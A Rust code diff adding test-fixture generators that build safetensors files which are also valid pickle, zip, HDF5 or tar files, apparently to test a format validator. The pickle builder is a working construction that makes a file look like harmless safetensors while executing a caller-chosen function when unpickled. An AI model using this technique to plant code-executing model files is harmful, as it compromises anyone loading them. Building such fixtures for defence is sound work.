@@ -778,3 +778,100 @@ impl BitWriter {
         self.out
     }
 }
+
+/// A valid safetensors file that is *also* a working pickle from byte 0 — the attack of issue 12.
+///
+/// The header length is 1364 = 0x554, so the file starts `T\x05\0\0\0`: BINSTRING of 5 bytes,
+/// which swallows the rest of the length prefix and `{"`. The walk resumes at byte 10, the first
+/// character of the only tensor's name, which is a chain of SHORT_BINBYTES opcodes (`C` plus a
+/// printable length) hopping over the rest of the header. The tensor's bytes (U8) are then
+/// `c{module}\n{name}\n(S'{arg}'\ntR.`: import `module.name`, call it with `arg`, return. Every
+/// header byte is printable JSON, and the reference safetensors crate accepts the file.
+///
+/// # Panics
+/// If `module`, `name` or `arg` contain newlines or quotes, or make the tail too long.
+pub fn pickle_polyglot(module: &str, name: &str, arg: &str) -> Vec<u8> {
+    const HEADER_LEN: usize = 0x554;
+    assert!(![module, name, arg].iter().any(|s| s.contains(['\n', '\'', '"', '\\'])));
+    let payload = format!("c{module}\n{name}\n(S'{arg}'\ntR.").into_bytes();
+    let k = payload.len();
+    let tail = format!("\":{{\"dtype\":\"U8\",\"shape\":[{k}],\"data_offsets\":[0,{k}]}}}}");
+    // Name starts at byte 10; ten full hops of 128 bytes, then a final hop of 80 bytes that
+    // lands on byte 8 + HEADER_LEN, the first byte of tensor data.
+    let mut name_chars = String::new();
+    for _ in 0..10 {
+        name_chars.push_str("C~");
+        name_chars.push_str(&"x".repeat(126));
+    }
+    name_chars.push_str("CP");
+    let mut header = format!("{{\"{name_chars}{tail}");
+    assert!(header.len() <= HEADER_LEN, "polyglot tail too long");
+    header.push_str(&" ".repeat(HEADER_LEN - header.len()));
+    let mut file = with_header(&header);
+    assert_eq!(&file[..5], b"T\x05\0\0\0");
+    file.extend_from_slice(&payload);
+    file
+}
+
+/// A valid safetensors file whose last tensor's bytes are a whole zip archive (one member,
+/// `model/config.json`), so Python's `zipfile` opens the file from its end.
+pub fn zip_polyglot() -> Vec<u8> {
+    let archive = zip(&[("model/config.json", b"{\"layers\": 2}")]);
+    let first = Tensor::patterned("weight", Dtype::F32, &[4, 4]);
+    let last = Tensor { name: "zz.blob".into(), dtype: Dtype::U8, shape: vec![archive.len() as u64], data: archive };
+    safetensors(&[first, last], &[])
+}
+
+/// A valid safetensors file with an HDF5 superblock signature at byte `at` (a power of two at
+/// least 512, inside the tensor data), where the HDF5 library looks for one.
+///
+/// # Panics
+/// If `at` is not a power of two of at least 512.
+pub fn hdf5_polyglot(at: usize) -> Vec<u8> {
+    assert!(at >= 512 && at.is_power_of_two());
+    let header_end = 8 + 120; // a one-tensor header padded to 120 bytes (below 512)
+    let data_len = at + 64 - header_end;
+    let mut t = Tensor { name: "w".into(), dtype: Dtype::U8, shape: vec![data_len as u64], data: vec![0x11; data_len] };
+    let sig_in_data = at - header_end;
+    t.data[sig_in_data..sig_in_data + 8].copy_from_slice(b"\x89HDF\r\n\x1a\n");
+    let mut header = format!("{{\"w\":{{\"dtype\":\"U8\",\"shape\":[{data_len}],\"data_offsets\":[0,{data_len}]}}}}");
+    header.push_str(&" ".repeat(120 - header.len()));
+    let mut file = with_header(&header);
+    file.extend_from_slice(&t.data);
+    file
+}
+
+/// A valid safetensors file whose first 512 bytes are also a tar header `tarfile` accepts: the
+/// one tensor's name covers bytes 100..345 with octal mode/uid/gid/size/mtime/devmajor/devminor
+/// fields, a checksum that matches, and type flag `0`.
+pub fn tar_polyglot() -> Vec<u8> {
+    let data = vec![0x42u8; 64];
+    // Name characters from byte 10 to byte 600 of the file; fields written at file offsets.
+    let mut name = vec![b'a'; 590];
+    let mut put = |file_at: usize, text: &[u8]| name[file_at - 10..file_at - 10 + text.len()].copy_from_slice(text);
+    put(100, b"0000644 ");
+    put(108, b"0000000 ");
+    put(116, b"0000000 ");
+    put(124, b"00000000000 ");
+    put(136, b"00000000000 ");
+    put(148, b"        ");
+    put(156, b"0");
+    put(329, b"0000000 "); // devmajor and devminor are parsed as octal too
+    put(337, b"0000000 ");
+    let build = |name: &[u8]| {
+        let name = std::str::from_utf8(name).expect("ascii");
+        let mut header = format!("{{\"{name}\":{{\"dtype\":\"U8\",\"shape\":[64],\"data_offsets\":[0,64]}}}}");
+        while header.len() % 8 != 0 {
+            header.push(' ');
+        }
+        let mut file = with_header(&header);
+        file.extend_from_slice(&data);
+        file
+    };
+    let draft = build(&name);
+    let sum: u32 = draft[..512].iter().map(|&b| u32::from(b)).sum();
+    // Six octal digits and two spaces (JSON cannot hold the NUL tar writers put there; tarfile
+    // strips the spaces). The sum counts the field as spaces, so writing it changes nothing.
+    name[148 - 10..156 - 10].copy_from_slice(format!("{sum:06o}  ").as_bytes());
+    build(&name)
+}
